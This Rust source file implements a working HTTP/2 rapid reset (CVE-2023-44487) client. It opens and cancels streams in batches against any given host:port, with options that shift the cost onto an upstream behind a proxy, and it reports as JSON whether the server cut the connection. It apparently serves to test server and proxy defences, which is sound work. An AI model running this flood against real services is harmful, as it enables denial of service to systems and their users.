//! HTTP/2 rapid reset (CVE-2023-44487) client: opens streams in batches on one connection
//! and cancels them (RST_STREAM CANCEL). With `--hold-ms` it waits before cancelling, so a
//! proxy has accepted and forwarded every stream first: the resets then cost the upstream,
//! which is the attack h2's own pending-accept bound cannot see. `--cancel-percent` below
//! 100 makes it a client that gives up on some calls and waits for the rest, as a client
//! with deadlines does. Prints JSON: streams reset and completed, and whether and why the
//! server closed the connection.

use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::Parser;
use tokio::net::TcpStream;

#[derive(Parser, Debug)]
struct Args {
    /// host:port of an h2c server.
    addr: String,
    /// Most streams to open.
    #[arg(long, default_value_t = 10_000)]
    streams: u32,
    /// Streams opened together before any is cancelled.
    #[arg(long, default_value_t = 1)]
    batch: u32,
    /// How long a batch is left open before its streams are cancelled.
    #[arg(long, default_value_t = 0)]
    hold_ms: u64,
    /// Share of each batch cancelled; the rest are awaited to their end.
    #[arg(long, default_value_t = 100)]
    cancel_percent: u32,
    /// Path asked for.
    #[arg(long, default_value = "/delay/1000")]
    path: String,
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    let args = Args::parse();
    let tcp = TcpStream::connect(&args.addr).await.context("connect")?;
    let (client, conn) = h2::client::handshake(tcp).await.context("h2 handshake")?;
    let conn = tokio::spawn(conn);
    let started = Instant::now();
    let (mut reset, mut completed) = (0u32, 0u32);
    let mut refused = None;
    let mut client = client;
    let mut opened = 0;
    'run: while opened < args.streams {
        let mut batch = Vec::new();
        for _ in 0..args.batch.min(args.streams - opened) {
            client =
                match tokio::time::timeout(Duration::from_secs(5), client.clone().ready()).await {
                    Ok(Ok(c)) => c,
                    Ok(Err(e)) => {
                        refused = Some(e.to_string());
                        break 'run;
                    }
                    Err(_) => {
                        refused = Some("stream capacity never freed".into());
                        break 'run;
                    }
                };
            let uri = format!("http://{}{}", args.addr, args.path);
            match client.send_request(http::Request::get(uri).body(())?, true) {
                Ok((resp, _)) => batch.push(resp),
                Err(e) => {
                    refused = Some(e.to_string());
                    break 'run;
                }
            }
            opened += 1;
        }
        if args.hold_ms > 0 {
            tokio::time::sleep(Duration::from_millis(args.hold_ms)).await;
        }
        let cancel = (batch.len() as u32 * args.cancel_percent).div_ceil(100) as usize;
        let kept = batch.split_off(cancel.min(batch.len()));
        // Dropping a response future cancels its stream: RST_STREAM(CANCEL).
        reset += batch.len() as u32;
        drop(batch);
        for resp in kept {
            match tokio::time::timeout(Duration::from_secs(10), resp).await {
                Ok(Ok(r)) => {
                    let mut body = r.into_body();
                    while let Some(chunk) = body.data().await {
                        let n = chunk.map(|c| c.len()).unwrap_or(0);
                        let _ = body.flow_control().release_capacity(n);
                    }
                    completed += 1;
                }
                Ok(Err(e)) => {
                    refused = Some(e.to_string());
                    break 'run;
                }
                Err(_) => {
                    refused = Some("no answer in 10 s".into());
                    break 'run;
                }
            }
        }
    }
    drop(client);
    let closed = tokio::time::timeout(Duration::from_secs(5), conn).await;
    let conn_error = match &closed {
        Ok(Ok(Err(e))) => Some(e.to_string()),
        _ => None,
    };
    println!(
        "{}",
        serde_json::json!({
            "opened": opened,
            "reset": reset,
            "completed": completed,
            "refused": refused,
            "connection_error": conn_error,
            "seconds": started.elapsed().as_secs_f64(),
        })
    );
    Ok(())
}
